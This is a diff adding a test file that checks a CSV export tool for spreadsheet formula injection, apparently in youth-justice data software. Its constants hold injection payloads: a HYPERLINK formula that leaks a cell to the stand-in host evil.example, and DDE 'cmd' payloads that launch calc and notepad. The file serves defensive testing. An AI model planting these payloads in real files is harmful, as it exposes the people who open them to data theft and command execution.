@@ -1,0 +1,74 @@
+import { spawnSync } from 'node:child_process';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { toCsv } from '../../src/export/format';
+import { encodeGlobalId } from '../../src/graphql/relay';
+import { Role } from '../../src/modules/auth/roles';
+import { OutcomeMeasure, SendStatus } from '../../src/modules/child/child.enums';
+import { projectRoot } from '../../src/paths';
+import { UpdateAgencyDocument, UpdateYotDocument } from '../generated/graphql';
+import { addChildren } from '../support/fixtures';
+import { startTestHub, TestHub } from '../support/hub';
+
+const CLI = join(projectRoot(), 'dist', 'src', 'export', 'cli.js');
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
+const CALC = "+cmd|' /C calc'!A0";
+const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const MINUS = '-2+3+cmd|\' /C notepad\'!A0';
+
+/** First characters a spreadsheet takes as the start of a formula (OWASP CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('exports that cannot attack a spreadsheet', () => {
+  let hub: TestHub;
+  beforeAll(async () => {
+    hub = await startTestHub();
+    const barnet = Number((await hub.dataSource.query(`SELECT id FROM yot WHERE code = 'E09000003'`))[0].id);
+    // As the issue saw it: a YOT manager renames its own YOT and region through the API.
+    const manager = { name: 'barnet manager', role: Role.YOT_MANAGER, yotId: barnet, agencyId: null };
+    const renamed = await hub.exec(UpdateYotDocument, { input: { id: encodeGlobalId('Yot', barnet), expectedVersion: 1, name: HYPERLINK, region: CALC } }, manager);
+    expect(renamed.errors).toBeUndefined();
+    // Agency names reach the gaps' messages ("… is not party to a current information-sharing agreement").
+    for (const [name, to] of [['Metropolitan Police Service', AT], ['Barnet Virtual School', MINUS]]) {
+      const [row] = await hub.dataSource.query(`SELECT id, version FROM agency WHERE name = '${name}'`);
+      const updated = await hub.exec(UpdateAgencyDocument, { input: { id: encodeGlobalId('Agency', Number(row.id)), expectedVersion: Number(row.version), name: to } });
+      expect(updated.errors).toBeUndefined();
+    }
+    await addChildren(hub.dataSource, 'E09000003', Array.from({ length: 12 }, (_, i) => ({ ref: `CSV-${i}`, sendStatus: SendStatus.EHCP, outcomes: [{ measure: OutcomeMeasure.SUITABLE_ETE, met: i < 6, period: '2025-Q1' }] })));
+  });
+  afterAll(() => hub.close());
+
+  const run = (...args: string[]) => spawnSync(process.execPath, [CLI, ...args], { env: { ...process.env, DATABASE_URL: hub.url, LOG_LEVEL: 'silent' }, encoding: 'utf8' });
+  const cells = (text: string) => (parse(text, { bom: true }) as string[][]).flat();
+
+  it('writes no CSV cell a spreadsheet would evaluate, in any view', () => {
+    for (const view of ['coverage', 'criteria', 'gaps', 'outcomes']) {
+      const result = run(view);
+      expect(result.status, view).toBe(0);
+      const dangerous = cells(result.stdout).filter((cell) => FORMULA_START.test(cell));
+      expect(dangerous, view).toEqual([]);
+    }
+  });
+
+  it('keeps the text readable: a leading quote, then the value as it was', () => {
+    const coverage = parse(run('coverage').stdout, { bom: true, columns: true }) as Record<string, string>[];
+    expect(coverage.find((r) => r.yotCode === 'E09000003')).toMatchObject({ yotName: `'${HYPERLINK}`, region: `'${CALC}` });
+    const gaps = parse(run('gaps').stdout, { bom: true, columns: true }) as Record<string, string>[];
+    const messages = gaps.map((g) => g.message);
+    expect(messages.some((m) => m.startsWith(`'${AT}`))).toBe(true);
+    expect(messages.some((m) => m.startsWith(`'${MINUS}`))).toBe(true);
+    const outcomes = parse(run('outcomes').stdout, { bom: true, columns: true }) as Record<string, string>[];
+    expect(outcomes).toContainEqual({ region: `'${CALC}`, measure: 'SUITABLE_ETE', period: '2025-Q1', cohort: '12', met: '6', rate: '0.5', suppressed: 'false' });
+  });
+
+  it('leaves JSON exports as they are', () => {
+    const rows = JSON.parse(run('coverage', '--format', 'json').stdout) as { yotCode: string; yotName: string; region: string }[];
+    expect(rows.find((r) => r.yotCode === 'E09000003')).toMatchObject({ yotName: HYPERLINK, region: CALC });
+  });
+
+  it('escapes text cells only: numbers, negative ones included, stay numbers', () => {
+    const text = toCsv([{ rate: -0.25, count: -3, label: '-0.25', tab: '\tx', cr: '\rx', plain: 'Knowsley', inner: 'a=b' }]);
+    expect(text.split('\r\n')[1]).toBe(`-0.25,-3,'-0.25,'\tx,"'\rx",Knowsley,a=b`);
+  });
+});
